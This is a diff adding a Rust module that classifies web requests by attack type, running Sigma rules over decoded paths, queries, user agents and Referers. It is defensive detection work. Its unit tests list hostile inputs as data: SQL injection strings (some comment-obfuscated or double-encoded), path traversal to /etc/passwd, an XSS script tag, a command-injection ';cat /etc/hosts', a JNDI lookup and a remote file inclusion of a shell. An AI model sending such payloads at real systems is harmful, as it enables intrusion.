@@ -1,0 +1,340 @@
+//! What a request tried, by Sigma rules of our own (`attack/rules/*.yml`).
+//!
+//! A rule's tags name its ATT&CK technique and a class of this crate. Rules see
+//! decoded text, so most requests never reach them: a query of letters, digits
+//! and signs that stand in every query is passed over, and what a path is worth
+//! is remembered. Marks of commodity tools say what was done and never who did
+//! it, so no class here identifies anybody.
+
+use rsigma_eval::{Engine, Event, EventValue};
+use serde_json::Value;
+
+use crate::decode::decoded;
+use crate::key::{self, KeyMap};
+use crate::request::Request;
+
+mod class;
+
+pub use class::{Class, Classes};
+
+/// Why rules do not load; those that ship do, which a test shows.
+#[derive(Debug)]
+pub struct BadRules(String);
+
+impl std::fmt::Display for BadRules {
+    fn fmt(&self, out: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        write!(out, "Sigma rules of web attacks: {}", self.0)
+    }
+}
+
+impl std::error::Error for BadRules {}
+
+const RULES: [&str; 8] = [
+    include_str!("attack/rules/sqli.yml"),
+    include_str!("attack/rules/xss.yml"),
+    include_str!("attack/rules/traversal.yml"),
+    include_str!("attack/rules/command.yml"),
+    include_str!("attack/rules/inclusion.yml"),
+    include_str!("attack/rules/shell.yml"),
+    include_str!("attack/rules/scanner.yml"),
+    include_str!("attack/rules/probe.yml"),
+];
+
+/// Texts whose verdict is remembered; all are forgotten when there are more.
+const REMEMBERED: usize = 1 << 16;
+
+/// Tells what requests try.
+pub struct Classifier {
+    engine: Engine,
+    known: KeyMap<Classes>,
+}
+
+impl Classifier {
+    /// A classifier with the rules that ship.
+    ///
+    /// # Errors
+    /// If a rule is malformed.
+    pub fn shipped() -> Result<Self, BadRules> {
+        let mut engine = Engine::new();
+        for text in RULES {
+            let rules = rsigma_parser::parse_sigma_yaml(text).map_err(|error| BadRules(error.to_string()))?;
+            if let Some(error) = rules.errors.first() {
+                return Err(BadRules(error.clone()));
+            }
+            engine.add_collection(&rules).map_err(|error| BadRules(error.to_string()))?;
+        }
+        Ok(Self { engine, known: KeyMap::default() })
+    }
+
+    /// The classes of attack in a request: its path, query, agent and Referer.
+    pub fn classes(&mut self, request: &Request<'_>) -> Classes {
+        self.path(request) | self.query(request) | self.agent(request.user_agent) | self.referer(request.referer)
+    }
+
+    /// The classes of attack in a value by itself.
+    pub fn text(&self, text: &str) -> Classes {
+        self.look(&Look { text: &without_comments(text), ..Look::default() })
+    }
+
+    fn path(&mut self, request: &Request<'_>) -> Classes {
+        let path = decoded(request.path, false);
+        let look = Look { text: &path, path: &path, method: request.method, ..Look::default() };
+        if path.len() > 512 || odd(&path) {
+            return self.look(&look);
+        }
+        self.remembered(key::of(&["path", &numberless(&path), request.method]), &look)
+    }
+
+    fn query(&self, request: &Request<'_>) -> Classes {
+        if request.query.is_empty() {
+            return Classes::NONE;
+        }
+        let query = decoded(request.query, true);
+        if !odd_query(&query) {
+            return Classes::NONE;
+        }
+        let plain = without_comments(&query);
+        let mut classes = self.look(&Look { text: &plain, query: "?", ..Look::default() });
+        if plain.len() != query.len() {
+            classes = classes | self.look(&Look { text: &query, query: "?", ..Look::default() });
+        }
+        classes
+    }
+
+    fn agent(&mut self, agent: &str) -> Classes {
+        if agent.is_empty() {
+            return Classes::NONE;
+        }
+        // Agents are full of brackets and semicolons: only what no browser writes is read as an attack.
+        let strange = ["<", "'", "${", "() {", "$(", "`", "../", "\\x"].iter().any(|mark| agent.contains(mark));
+        // A product with its version is one; a sentence or a path is none.
+        let product = agent.split(['/', ' ']).next().is_some_and(|name| {
+            !name.is_empty() && name.len() < agent.len() && agent.as_bytes().get(name.len()) == Some(&b'/')
+        });
+        let typed = !product
+            && (agent.starts_with('/')
+                || agent.contains(" -")
+                || agent.contains("/.")
+                || agent.contains(" /")
+                || agent.contains(';'));
+        let text = if strange || typed { agent } else { "" };
+        self.remembered(key::of(&["agent", agent]), &Look { agent, text, query: "?", ..Look::default() })
+    }
+
+    fn referer(&mut self, referer: &str) -> Classes {
+        if !referer.bytes().any(|byte| matches!(byte, b'%' | b'<' | b'\'' | b'"' | b'$' | b'{' | b'`')) {
+            return Classes::NONE;
+        }
+        let text = decoded(referer, true);
+        let strange = ["<", "'", "\"", "${", "`", "../", "\\"].iter().any(|mark| text.contains(mark));
+        // A search engine's address holds whatever its user typed.
+        let query = text.split_once('?').map_or(&*text, |(_, query)| query);
+        if strange {
+            self.look(&Look { text: &without_comments(query), query: "?", ..Look::default() })
+        } else {
+            Classes::NONE
+        }
+    }
+
+    fn remembered(&mut self, key: u64, look: &Look<'_>) -> Classes {
+        if let Some(classes) = self.known.get(&key) {
+            return *classes;
+        }
+        if self.known.len() >= REMEMBERED {
+            self.known.clear();
+        }
+        let classes = self.look(look);
+        self.known.insert(key, classes);
+        classes
+    }
+
+    fn look(&self, look: &Look<'_>) -> Classes {
+        let hits = self.engine.evaluate(look);
+        let tags = hits.iter().flat_map(|hit| &hit.header.tags);
+        tags.filter_map(|tag| Class::from_tag(tag)).fold(Classes::NONE, Classes::with)
+    }
+}
+
+/// Whether a path holds what no page's name holds.
+fn odd(path: &str) -> bool {
+    path.bytes().any(|byte| {
+        matches!(byte, b'\'' | b'"' | b'<' | b'>' | b'(' | b'{' | b'|' | b';' | b'$' | b'`' | b'\\' | b'*' | 0..=31)
+    }) || path.contains("..")
+        || path.contains("//")
+}
+
+/// Whether a decoded query holds more than names and plain values.
+fn odd_query(query: &str) -> bool {
+    let sign = |byte: u8| {
+        matches!(
+            byte,
+            b'\''
+                | b'"'
+                | b'<'
+                | b'>'
+                | b'('
+                | b')'
+                | b'['
+                | b'{'
+                | b'|'
+                | b';'
+                | b'$'
+                | b'`'
+                | b'\\'
+                | b'*'
+                | b'#'
+                | b'!'
+                | b'@'
+                | b'^'
+                | b'~'
+                | 0..=31 | 127
+        )
+    };
+    let bytes = query.as_bytes();
+    bytes.iter().any(|byte| sign(*byte))
+        || query.contains("..")
+        || query.contains('/')
+        || query.contains(":")
+        || query.contains("--")
+        || query.contains(' ') && (bytes.iter().any(u8::is_ascii_digit) || query.len() > 48)
+        || query.split('&').any(|pair| has_suffix(pair.rsplit('=').next().unwrap_or(pair)))
+}
+
+/// Whether a value looks like the name of a file.
+fn has_suffix(value: &str) -> bool {
+    value.rsplit_once('.').is_some_and(|(name, suffix)| {
+        !name.is_empty() && (2..=7).contains(&suffix.len()) && suffix.bytes().all(|byte| byte.is_ascii_alphabetic())
+    })
+}
+
+/// Digits do not change what a path is, and would make every record's page new.
+fn numberless(path: &str) -> String {
+    let mut out = String::with_capacity(path.len());
+    for c in path.chars() {
+        match c {
+            '0'..='9' if out.ends_with('0') => {}
+            '0'..='9' => out.push('0'),
+            c => out.push(c),
+        }
+    }
+    out
+}
+
+/// Comments are blanks to a database; they are put between words to hide them.
+fn without_comments(text: &str) -> std::borrow::Cow<'_, str> {
+    if !text.contains("/*") {
+        return text.into();
+    }
+    let mut out = String::with_capacity(text.len());
+    let mut rest = text;
+    while let Some((before, after)) = rest.split_once("/*") {
+        out.push_str(before);
+        // What stands in `/*! */` runs.
+        let Some((inside, beyond)) = after.split_once("*/") else {
+            rest = after;
+            break;
+        };
+        out.push(' ');
+        if let Some(run) = inside.strip_prefix('!') {
+            out.push_str(run.trim_start_matches(|c: char| c.is_ascii_digit()));
+            out.push(' ');
+        }
+        rest = beyond;
+    }
+    out.push_str(rest);
+    out.into()
+}
+
+/// What the rules see of a request.
+#[derive(Default)]
+struct Look<'a> {
+    text: &'a str,
+    path: &'a str,
+    query: &'a str,
+    method: &'a str,
+    agent: &'a str,
+}
+
+impl Look<'_> {
+    fn fields(&self) -> [(&'static str, &str); 5] {
+        [
+            ("text", self.text),
+            ("path", self.path),
+            ("query", self.query),
+            ("method", self.method),
+            ("agent", self.agent),
+        ]
+    }
+}
+
+impl Event for Look<'_> {
+    fn get_field(&self, path: &str) -> Option<EventValue<'_>> {
+        let fields = self.fields();
+        let (_, value) = fields.into_iter().find(|(name, _)| *name == path)?;
+        Some(EventValue::Str(value.into()))
+    }
+
+    fn any_string_value(&self, wanted: &dyn Fn(&str) -> bool) -> bool {
+        self.fields().iter().any(|(_, value)| wanted(value))
+    }
+
+    fn all_string_values(&self) -> Vec<std::borrow::Cow<'_, str>> {
+        self.fields().into_iter().map(|(_, value)| value.into()).collect()
+    }
+
+    fn to_json(&self) -> Value {
+        self.fields().into_iter().map(|(name, value)| (name.to_owned(), Value::from(value))).collect()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn requests_are_classed() {
+        let mut classifier = Classifier::shipped().expect("the rules load");
+        let cases = [
+            ("GET", "/record", "id=20500358", ""),
+            ("GET", "/search", "last=O%27Brien&first=Mary+Ann&dob=1980-02-03", ""),
+            ("GET", "/search", "q=polling+place+for+12+Main+Street", ""),
+            ("GET", "/forms/absentee.pdf", "", ""),
+            ("GET", "/login", "next=/account/settings", ""),
+            ("GET", "/record", "id=1%27%20OR%20%271%27%3D%271", "sqli"),
+            ("GET", "/record", "id=-1%20UNION%20SELECT%20NULL%2CNULL--%20", "sqli"),
+            ("GET", "/record", "id=-1/**/UN/**/ION/*!50000SELECT*/NULL", "sqli"),
+            ("GET", "/record", "id=1%20AND%207821%3D7821", "sqli"),
+            ("GET", "/record", "id=1%2527%2520OR%2520%25271%2527%253D%25271", "sqli"),
+            ("GET", "/download", "file=..%2F..%2Fetc%2Fpasswd", "traversal"),
+            ("GET", "/download", "file=%c0%ae%c0%ae%c0%afx", "traversal"),
+            ("GET", "/a/..%252f..%252fx", "", "traversal"),
+            ("PUT", "/uploads/0b1.aspx", "", "webshell-upload"),
+            ("GET", "/uploads/0b1.aspx", "", "webshell"),
+            ("GET", "/", "v[$acunetix]=1", "scan"),
+            ("GET", "/wp-login.php", "", "probe"),
+            ("GET", "/x", "q=<script>alert(1)</script>", "xss"),
+            ("GET", "/x", "c=;cat%20/etc/hosts", "command"),
+            ("GET", "/x", "q=${jndi:ldap://a.example/x}", "java"),
+            ("GET", "/x", "page=http://files.example/shell.txt", "inclusion"),
+        ];
+        for (method, path, query, expected) in cases {
+            let classes = classifier.classes(&Request { method, path, query, ..Request::default() });
+            let words: Vec<_> = classes.words().collect();
+            assert_eq!(words.is_empty(), expected.is_empty(), "{path}?{query}: {words:?}");
+            assert!(expected.is_empty() || words.contains(&expected), "{path}?{query}: {words:?}");
+        }
+    }
+
+    #[test]
+    fn browsers_are_no_scanners() {
+        let mut classifier = Classifier::shipped().expect("the rules load");
+        for agent in [
+            "Mozilla/5.0 (Windows; U; Windows NT 5.1; id; rv:1.9) Gecko Firefox/3.0",
+            "Mozilla/5.0 (iPhone; CPU iPhone OS 16_4 like Mac OS X) AppleWebKit/605.1.15",
+            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+        ] {
+            assert_eq!(classifier.agent(agent), Classes::NONE, "{agent}");
+        }
+        assert!(classifier.agent("sqlmap/1.7.2#stable (https://sqlmap.org)").has(Class::Scan));
+    }
+}
